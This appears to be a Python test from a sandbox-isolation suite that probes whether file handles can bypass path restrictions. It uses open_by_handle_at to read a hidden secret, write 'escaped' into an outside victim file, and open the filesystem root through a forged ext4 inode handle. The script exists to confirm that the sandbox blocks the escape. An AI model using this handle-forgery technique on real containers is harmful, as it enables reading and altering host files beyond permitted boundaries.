#!/usr/bin/env python3
# tries: to open files by handle, which asks for no path at all
# refuses: write read
# held outside for: users
import ctypes
import os
from escape import SYSCALLS, control, fact, is_text_of, refused, syscall, worked

control()


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def open_by(handle, flags):
    mount = os.open(fact("CHECKOUT"), os.O_RDONLY)
    return syscall("open_by_handle_at", mount, ctypes.byref(handle), flags)


def handle_of(path):
    handle, mount = Handle(bytes=128), ctypes.c_int()
    syscall(
        "name_to_handle_at", -100, os.fsencode(path), ctypes.byref(handle), ctypes.byref(mount), 0
    )
    return handle


why = []
for path, flags in [
    (fact("HIDDEN_FILE"), os.O_RDONLY),
    (fact("OUTSIDE") + "/victim.txt", os.O_RDWR),
]:
    try:
        descriptor = open_by(handle_of(path), flags)
    except OSError as problem:
        why.append(str(problem))
        continue
    text = os.read(descriptor, 4096)
    if flags == os.O_RDWR:
        os.write(descriptor, b"escaped\n")
        worked(f"wrote {path} by its handle")
    if is_text_of(text, "HIDDEN_SHA256"):
        worked("read the secret by its handle")
# Number 2 is the root directory of ext4, whatever is mounted over it.
root = Handle(bytes=8, kind=1)
root.data[0] = 2
try:
    descriptor = open_by(root, os.O_RDONLY | os.O_DIRECTORY)
    os.listdir(descriptor)
    worked("opened the root of the file system by its handle")
except OSError as problem:
    why.append(str(problem))
refused("; ".join(why))
